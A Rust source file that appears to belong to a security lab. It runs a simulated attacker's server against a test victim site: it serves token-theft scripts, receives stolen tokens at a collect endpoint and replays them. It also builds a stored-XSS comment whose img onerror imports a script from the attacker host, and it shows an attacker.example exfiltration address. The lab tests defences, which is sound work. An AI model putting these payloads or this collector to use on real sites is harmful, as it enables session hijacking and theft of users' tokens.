//! The attacker: hosts with scripts and forms, and a server that tries the stolen tokens.
//!
//! One host is another site, the other is a subdomain of the victim's and counts as the same site; both respond alike.
//!
//! # Layout
//! - this file: the scripts, and what they send back
//! - [`forgery`] pages that make the visitor's browser send requests
//! - [`replay`] the server's own requests to the victim, with the stolen tokens

pub mod forgery;
pub mod replay;

use std::sync::Arc;

use axum::{
    Router,
    body::Bytes,
    extract::{Path, Query, State},
    http::{
        Method, StatusCode,
        header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE},
    },
    response::{IntoResponse, Response},
    routing::{any, get, post},
};
use lab_types::{CellId, StolenValue, Strategy, Threat};
use serde::Deserialize;

use crate::{
    host, injection::InjectedContent, return_page::return_page, run::Run, scope::EvidenceScope, state::Lab,
    targets::VictimEndpoints,
};
use replay::Thief;

/// The maximum number of stolen values that are tried.
const MAX_TRIED: usize = 12;

const KIT: &str = include_str!("assets/attacks/kit.js");

/// A script that a page of the victim loads without checking its address.
const WIDGET: &str = include_str!("assets/attacks/widget.js");

/// The router of the attacker's hosts.
pub fn router(lab: &Arc<Lab>) -> Router {
    let hosts = Router::new()
        .route("/attacks/{file}", get(script))
        .route("/hosted/widget.js", get(async || javascript(WIDGET)))
        .route("/collect", post(collect))
        .route("/hit", any(hit))
        .route("/csrf", get(forgery::navigation))
        .route("/unseen", get(forgery::background))
        .with_state(Arc::clone(lab));
    host::restrict(hosts, lab, &[&lab.sites.attacker, &lab.sites.sibling])
}

/// The script of an attack, if it has one.
fn script_of(threat: Threat) -> Option<&'static str> {
    match threat {
        Threat::SingleExecutionTheft => Some(include_str!("assets/attacks/single-execution-theft.js")),
        Threat::PersistentTheft => Some(include_str!("assets/attacks/persistent-theft.js")),
        Threat::NewTokens => Some(include_str!("assets/attacks/acquiring-new-tokens.js")),
        Threat::Proxying => Some(include_str!("assets/attacks/proxying.js")),
        _ => None,
    }
}

/// The code of a cell's attack, for readers of the evidence.
pub fn code(cell: CellId) -> Option<String> {
    match cell {
        CellId::Storage { threat, .. } => match script_of(threat) {
            Some(script) => Some(format!("{script}\n// kit.js\n{KIT}")),
            None => forgery::code(cell),
        },
        CellId::Forgery { .. } => forgery::code(cell),
        CellId::Script { injection, .. } => {
            let attacker = "https://attacker.example";
            let content = InjectedContent::new(injection, "…", attacker, &format!("{attacker}/hit?…"));
            Some(content.markup + &content.text)
        }
        // There is no attack: the pages of one visitor interfere with each other.
        CellId::Race { .. } => None,
    }
}

async fn script(Path(file): Path<String>) -> Response {
    let script = match file.strip_suffix(".js") {
        Some("kit") => Some(KIT),
        Some(name) => Threat::from_slug(name).and_then(script_of),
        None => None,
    };
    match script {
        Some(script) => javascript(script),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The victim's page loads it from another origin, and the attacker allows that.
fn javascript(script: &'static str) -> Response {
    let headers = [
        (CONTENT_TYPE, "text/javascript; charset=utf-8"),
        (ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
    ];
    (headers, script).into_response()
}

#[derive(Deserialize)]
struct LootBody {
    found: Vec<StolenValue>,
}

/// Receives what a script found, and tries it before responding, so that the evidence is complete when the script ends.
async fn collect(State(lab): State<Arc<Lab>>, scope: EvidenceScope, body: Bytes) -> StatusCode {
    let EvidenceScope { run, cell, .. } = scope;
    let CellId::Storage { strategy, .. } = cell else {
        return StatusCode::NOT_FOUND;
    };
    let Ok(LootBody { found }) = serde_json::from_slice(&body) else {
        return StatusCode::BAD_REQUEST;
    };
    run.record_loot(cell, found.clone());
    // A separate task: closing the page must not stop what its script has begun.
    let tries = tokio::spawn(async move {
        let thief = Thief::new(&lab, &run, strategy, cell);
        let promising = found.iter().filter(|one| replay::is_promising(strategy, one));
        for one in promising.take(MAX_TRIED) {
            thief.try_value(&one.value).await;
        }
        run.record(cell, thief.summary());
    });
    match tries.await {
        Ok(()) => StatusCode::NO_CONTENT,
        Err(_) => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

#[derive(Deserialize)]
struct HitQuery {
    what: Option<String>,
}

/// Accepts any request, whether the data is in the address or in the body.
async fn hit(
    State(lab): State<Arc<Lab>>,
    scope: EvidenceScope,
    Query(HitQuery { what }): Query<HitQuery>,
    method: Method,
    body: Bytes,
) -> Response {
    let EvidenceScope { run, cell, step } = scope;
    if !matches!(cell, CellId::Script { .. }) {
        return StatusCode::NOT_FOUND.into_response();
    }
    let found = StolenValue {
        place: format!("a {method} of the browser"),
        name: if what.is_some() { "address" } else { "body" }.into(),
        value: what.unwrap_or_else(|| String::from_utf8_lossy(&body).into_owned()),
    };
    run.record_loot(cell, vec![found]);
    // A visitor who was navigated here is sent back to the runner.
    return_page(&lab, &run, step, "The attacker’s server has what it wanted.").into_response()
}

/// A stored comment that loads a script of the attacker into the victim's page.
pub fn comment(lab: &Lab, run: &Run, strategy: Strategy, threat: Threat) -> String {
    let cell = CellId::Storage { strategy, threat };
    let address = format!(
        "{}/attacks/{}.js?run={}&cell={cell}&refresh={}",
        lab.sites.attacker,
        threat.slug(),
        run.id,
        VictimEndpoints::of(strategy).refresh
    );
    format!("<p>What a fine page.</p><img alt=\"\" src=\"data:,\" onerror=\"import('{address}')\">")
}
